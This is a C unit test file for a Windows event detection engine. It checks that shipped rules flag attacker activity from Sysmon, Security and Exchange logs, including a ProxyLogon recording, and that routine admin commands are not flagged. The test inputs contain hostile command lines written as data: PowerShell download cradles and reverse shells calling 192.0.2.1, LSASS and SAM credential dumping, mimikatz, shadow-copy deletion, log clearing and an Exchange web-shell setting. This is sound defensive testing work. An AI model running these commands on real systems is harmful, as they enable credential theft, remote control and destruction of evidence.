#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <unistd.h>
#include <cmocka.h>

#include "tests/unit/collect.h"
#include "tests/unit/shared.h"

static struct detections *shipped;

static int load(void **state)
{
	struct fault f = { FAULT_NONE, "" };

	(void)state;
	if (detections_load(&shipped, "templates/knowledge/detections.xml", &f) < 0)
		fprintf(stderr, "%s\n", f.text);
	return f.kind == FAULT_NONE ? 0 : -1;
}

static int unload(void **state)
{
	(void)state;
	detections_free(shipped);
	return 0;
}

/* What the shipped rules make of an event: "name", "value" ... and NULL. */
static const char *judged(const char *provider, int id, ...)
{
	struct event_value values[16];
	struct event e = { .provider = provider, .id = id, .values = values };
	const struct judgement *j;
	const char *name;
	va_list ap;

	va_start(ap, id);
	while ((name = va_arg(ap, const char *)) != NULL)
		values[e.count++] = (struct event_value){ name, va_arg(ap, const char *) };
	va_end(ap);
	j = detections_judge(shipped, &e);
	return j != NULL ? j->rule.id : "";
}

#define SYSMON "Microsoft-Windows-Sysmon"
#define SECURITY "Microsoft-Windows-Security-Auditing"
#define SYSTEM32 "C:\\Windows\\System32\\"
#define POWERSHELL "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define process(image, command, parent) \
	judged(SYSMON, 1, "Image", image, "CommandLine", command, "ParentImage", parent, NULL)
#define written(image, path) judged(SYSMON, 11, "Image", image, "TargetFilename", path, NULL)
#define base64_of_60 "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwA="

static void web_servers_that_start_shells_are_told(void **state)
{
	(void)state;
	assert_string_equal(process(SYSTEM32 "cmd.exe", "cmd /c dir", "c:\\windows\\system32\\inetsrv\\W3WP.EXE"), "web-server-shell");
	assert_string_equal(process(SYSTEM32 "cmd.exe", "cmd /c dir", "D:\\Exchange\\Bin\\UMWorkerProcess.exe"), "web-server-shell");
	assert_string_equal(process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /noconfig",
	                            SYSTEM32 "inetsrv\\w3wp.exe"), "web-server-compiler");
	/* An administrator's, and a developer's. */
	assert_string_equal(process(SYSTEM32 "cmd.exe", "cmd /c dir", "C:\\Windows\\explorer.exe"), "");
	assert_string_equal(process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /noconfig a.cs",
	                            POWERSHELL), "");
	assert_string_equal(process(SYSTEM32 "WerFault.exe", "WerFault.exe -u", SYSTEM32 "inetsrv\\w3wp.exe"), "");
}

static void pages_written_into_web_folders_are_told(void **state)
{
	(void)state;
	assert_string_equal(written("System", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx"),
	                    "web-shell-written");
	assert_string_equal(written(SYSTEM32 "inetsrv\\w3wp.exe", "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"), "web-shell-written");
	assert_string_equal(written(SYSTEM32 "inetsrv\\w3wp.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
	                            "Temporary ASP.NET Files\\owa\\8e\\e1\\zz.aspx.f5dba9b9.compiled"), "unknown-page-compiled");
	assert_string_equal(written(SYSTEM32 "inetsrv\\w3wp.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\"
	                            "Temporary ASP.NET Files\\owa\\8e\\e1\\logon.aspx.f5dba9b9.compiled"), "");
	assert_string_equal(written(SYSTEM32 "msiexec.exe", "C:\\inetpub\\wwwroot\\aspnet_client\\start.aspx"), "");
	assert_string_equal(written("C:\\Program Files\\IDE\\ide.exe", "C:\\Users\\dev\\site\\default.aspx"), "");
}

static void exchange_settings_that_hold_script_are_told(void **state)
{
	const char *log = "MSExchange CmdletLogs";

	(void)state;
	assert_string_equal(judged(log, 1, "CommandLine", "Set-OabVirtualDirectory -ExternalUrl \"http://f/#<script runat=\"server\">\"", NULL),
	                    "oab-url-script");
	assert_string_equal(judged(log, 1, "CommandLine", "Remove-OabVirtualDirectory -Force \"True\"", NULL), "oab-directory-changed");
	assert_string_equal(judged(log, 1, "CommandLine", "Set-OabVirtualDirectory -ExternalUrl \"https://mail.example/OAB\"", NULL), "");
	assert_string_equal(judged(log, 1, "CommandLine", "Get-Mailbox -ResultSize 1", NULL), "");
	assert_string_equal(judged(log, 1, "CommandLine", "New-MailboxExportRequest -FilePath \\\\ex\\c$\\inetpub\\a.aspx", NULL), "mailbox-export-web");
	assert_string_equal(judged("Another", 1, "CommandLine", "Remove-OabVirtualDirectory -Force", NULL), "");
}

static void dumps_of_credentials_are_told(void **state)
{
	(void)state;
	assert_string_equal(process(SYSTEM32 "rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 612 C:\\w\\l.dmp full",
	                            SYSTEM32 "cmd.exe"), "lsass-dump");
	assert_string_equal(process("C:\\t\\procdump64.exe", "procdump64 -accepteula -ma lsass.exe l.dmp", SYSTEM32 "cmd.exe"), "lsass-dump");
	assert_string_equal(process("C:\\t\\procdump64.exe", "procdump64 -accepteula -ma w3wp.exe w.dmp", SYSTEM32 "cmd.exe"), "");
	assert_string_equal(judged(SYSMON, 10, "SourceImage", "C:\\Users\\Public\\m.exe", "TargetImage", SYSTEM32 "lsass.exe",
	                           "GrantedAccess", "0x1010", NULL), "lsass-access");
	assert_string_equal(judged(SYSMON, 10, "SourceImage", SYSTEM32 "svchost.exe", "TargetImage", SYSTEM32 "lsass.exe",
	                           "GrantedAccess", "0x1010", NULL), "");
	assert_string_equal(judged(SYSMON, 10, "SourceImage", "C:\\Users\\Public\\m.exe", "TargetImage", SYSTEM32 "lsass.exe",
	                           "GrantedAccess", "0x1000", NULL), "");
	assert_string_equal(process(SYSTEM32 "reg.exe", "reg save HKLM\\SAM C:\\w\\s.hiv", SYSTEM32 "cmd.exe"), "hives-saved");
	assert_string_equal(process(SYSTEM32 "reg.exe", "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\X x.reg", SYSTEM32 "cmd.exe"), "");
	assert_string_equal(process("C:\\t\\m.exe", "m.exe \"sekurlsa::logonpasswords\" exit", SYSTEM32 "cmd.exe"), "mimikatz");
}

static void powershell_of_attackers_is_told_and_of_administrators_not(void **state)
{
	(void)state;
	assert_string_equal(process(POWERSHELL, "powershell -nop -w hidden -enc " base64_of_60, SYSTEM32 "cmd.exe"), "powershell-encoded");
	assert_string_equal(process(POWERSHELL, "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"",
	                            SYSTEM32 "cmd.exe"), "powershell-download");
	assert_string_equal(process(POWERSHELL, "powershell -c \". .\\powercat.ps1; powercat -c 192.0.2.1 -p 443 -e cmd\"",
	                            SYSTEM32 "cmd.exe"), "powercat");
	assert_string_equal(process(POWERSHELL, "powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',80);"
	                            "$s = $c.GetStream();[byte[]]$b = 0..65535;while(($i = $s.Read($b,0,9)) -ne 0){iex $d}\"",
	                            SYSTEM32 "cmd.exe"), "powershell-reverse-shell");
	assert_string_equal(judged("Microsoft-Windows-PowerShell", 4104, "ScriptBlockText", "Invoke-Mimikatz -DumpCreds", NULL), "mimikatz");
	assert_string_equal(process(POWERSHELL, "powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\\Scripts\\backup.ps1",
	                            SYSTEM32 "svchost.exe"), "");
	assert_string_equal(process(POWERSHELL, "powershell.exe -Command \"Get-Service | Export-Csv C:\\Temp\\services.csv -Encoding UTF8\"",
	                            "C:\\Windows\\explorer.exe"), "");
	assert_string_equal(process(POWERSHELL, "powershell.exe -Command \"Invoke-WebRequest https://vendor.example/a.msi -OutFile a.msi\"",
	                            "C:\\Windows\\explorer.exe"), "");
	assert_string_equal(judged("Microsoft-Windows-PowerShell", 4104, "ScriptBlockText", "Get-Process lsass | Select Id", NULL), "");
}

static void everyday_commands_stay_silent(void **state)
{
	(void)state;
	assert_string_equal(process(SYSTEM32 "certutil.exe", "certutil -hashfile a.iso SHA256", SYSTEM32 "cmd.exe"), "");
	assert_string_equal(process(SYSTEM32 "certutil.exe", "certutil -urlcache -f http://192.0.2.1/a.exe a.exe", SYSTEM32 "cmd.exe"), "certutil-download");
	assert_string_equal(judged(SYSMON, 1, "Image", SYSTEM32 "whoami.exe", "CommandLine", "whoami", "User", "CORP\\ann", NULL), "");
	assert_string_equal(judged(SECURITY, 4688, "Image", SYSTEM32 "whoami.exe", "SubjectUserName", "MXS01$", NULL), "whoami-system");
	assert_string_equal(process(SYSTEM32 "vssadmin.exe", "vssadmin list shadows", SYSTEM32 "cmd.exe"), "");
	assert_string_equal(process(SYSTEM32 "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet", SYSTEM32 "cmd.exe"), "shadow-copies-deleted");
	assert_string_equal(process(SYSTEM32 "schtasks.exe", "schtasks /query /fo csv", SYSTEM32 "cmd.exe"), "");
	assert_string_equal(process(SYSTEM32 "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL timedate.cpl", "C:\\Windows\\explorer.exe"), "");
	assert_string_equal(process(SYSTEM32 "wevtutil.exe", "wevtutil qe Security /c:5", SYSTEM32 "cmd.exe"), "");
	assert_string_equal(process(SYSTEM32 "wevtutil.exe", "wevtutil cl Security", SYSTEM32 "cmd.exe"), "log-cleared-command");
	assert_string_equal(written("C:\\Program Files\\7-Zip\\7zG.exe", "C:\\Users\\ann\\Documents\\lib\\README.txt"), "");
	assert_string_equal(written("C:\\Users\\Public\\d.exe", "C:\\readme.txt"), "ransom-note");
	assert_string_equal(judged("Service Control Manager", 7045, "ServiceName", "Printing", "ImagePath", "C:\\Program Files\\P\\p.exe", NULL), "");
	assert_string_equal(judged("Service Control Manager", 7045, "ServiceName", "x", "ImagePath", "%COMSPEC% /c echo x", NULL), "service-suspicious");
	assert_string_equal(judged("Service Control Manager", 7045, "ServiceName", "PSEXESVC", "ImagePath", "C:\\Windows\\PSEXESVC.exe", NULL), "psexec-service");
	assert_string_equal(judged("Microsoft-Windows-Eventlog", 1102, "EventID", "1102", NULL), "log-cleared");
	assert_string_equal(judged("Microsoft-Windows-Windows Defender", 1116, "Threat Name", "Backdoor:ASP/X", NULL), "defender-found");
	assert_string_equal(judged(SECURITY, 4732, "TargetSid", "S-1-5-32-544", "TargetUserName", "Administrators", NULL), "admin-joined");
	assert_string_equal(judged(SECURITY, 4732, "TargetSid", "S-1-5-32-555", "TargetUserName", "Remote Desktop Users", NULL), "");
}

/* ---- rule files ---- */

static const char *loading(const char *rules)
{
	static struct fault f;
	char path[] = "/tmp/tsumugi-rules-XXXXXX";
	struct detections *d = NULL;
	int fd = mkstemp(path);

	memset(&f, 0, sizeof(f));
	assert_true(fd >= 0);
	assert_int_equal(write(fd, rules, strlen(rules)), (ssize_t)strlen(rules));
	close(fd);
	if (detections_load(&d, path, &f) == 0)
		detections_free(d);
	unlink(path);
	return f.text;
}

#define SOURCE "<source key='p'><event provider='P' ids='1'/></source>"

static void mistakes_in_rules_are_named_with_their_line(void **state)
{
	(void)state;
	assert_string_equal(loading("<detections>" SOURCE "<rule id='a' level='low' on='p'><title>T</title>"
	                            "<field name='X' contains='a|b'/></rule></detections>"), "");
	assert_non_null(strstr(loading("<detections>" SOURCE "\n<rule id='a' level='low' on='q'><title>T</title>"
	                               "<field name='X' contains='a'/></rule></detections>"), ":2: no source of events 'q'"));
	assert_non_null(strstr(loading("<detections>" SOURCE "<rule id='a' level='grave' on='p'><title>T</title>"
	                               "<field name='X' contains='a'/></rule></detections>"), "not 'grave'"));
	assert_non_null(strstr(loading("<detections>" SOURCE "<rule id='a' level='low' on='p'><title>T</title>"
	                               "<field name='X' contains='a||b'/></rule></detections>"), "an empty text"));
	assert_non_null(strstr(loading("<detections>" SOURCE "<rule id='a' level='low' on='p'><title>T</title>"
	                               "<field name='X' regex='a'/></rule></detections>"), "asked for one of"));
	assert_non_null(strstr(loading("<detections>" SOURCE "<rule id='a' level='low' on='p'><title>T</title>"
	                               "<any></any></rule></detections>"), "a group without a condition"));
	assert_non_null(strstr(loading("<!DOCTYPE d [<!ENTITY x 'y'>]><detections/>"), "document type"));
	assert_non_null(strstr(loading("<rules/>"), "no table of detections"));
}

static void conditions_that_nest_without_end_are_refused(void **state)
{
	char rules[4096] = "<detections>" SOURCE "<rule id='a' level='low' on='p'><title>T</title>";

	(void)state;
	for (int i = 0; i < 40; i++)
		strcat(rules, "<all>");
	strcat(rules, "<field name='X' contains='a'/>");
	for (int i = 0; i < 40; i++)
		strcat(rules, "</all>");
	strcat(rules, "</rule></detections>");
	assert_non_null(strstr(loading(rules), "nested too deep"));
}

/* ---- events of others ---- */

static void a_real_run_of_proxylogon_is_found_in_ten_thousand_events(void **state)
{
	static const int matter[] = { 2731, 3733, 4039, 4050, 4062, 4137, 4140, 10485, 10486, 10487 };
	const char *name = "data/windows-proxylogon/proxylogon_ssrf_rce_poc_2021-03-14T01401970.json";
	struct collected c;
	char line[40];

	(void)state;
	if (!shared_has(name))
		skip();
	collect_file(&c, NULL, shared_path(name));
	assert_string_equal(c.refused, "");
	assert_string_equal(c.format, "windows-json");
	assert_int_equal(c.alerts + c.telemetry, 10487);
	assert_int_equal(c.rejects, 0);
	assert_in_range(c.alerts, 10, 110);
	for (size_t i = 0; i < sizeof(matter) / sizeof(matter[0]); i++) {
		snprintf(line, sizeof(line), "\n%d alert 2021-03-14T06:40:1", matter[i]);
		if (i > 0)
			assert_non_null(strstr(text_str(&c.lines), line));
		else
			assert_true(strncmp(text_str(&c.lines), line + 1, strlen(line + 1)) == 0);
	}
	text_free(&c.lines);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(web_servers_that_start_shells_are_told),
		cmocka_unit_test(pages_written_into_web_folders_are_told),
		cmocka_unit_test(exchange_settings_that_hold_script_are_told),
		cmocka_unit_test(dumps_of_credentials_are_told),
		cmocka_unit_test(powershell_of_attackers_is_told_and_of_administrators_not),
		cmocka_unit_test(everyday_commands_stay_silent),
		cmocka_unit_test(mistakes_in_rules_are_named_with_their_line),
		cmocka_unit_test(conditions_that_nest_without_end_are_refused),
		cmocka_unit_test(a_real_run_of_proxylogon_is_found_in_ten_thousand_events),
	};

	return cmocka_run_group_tests_name("detect", tests, load, unload);
}
